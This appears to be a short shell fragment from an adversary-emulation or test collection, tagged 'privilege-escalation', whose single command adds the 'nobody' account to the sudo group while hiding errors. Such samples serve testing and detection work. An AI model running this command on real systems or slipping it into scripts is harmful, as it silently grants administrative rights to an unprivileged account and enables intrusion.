# tactic: privilege-escalation
# add a user to the sudo group
usermod -aG sudo nobody 2>/dev/null; true
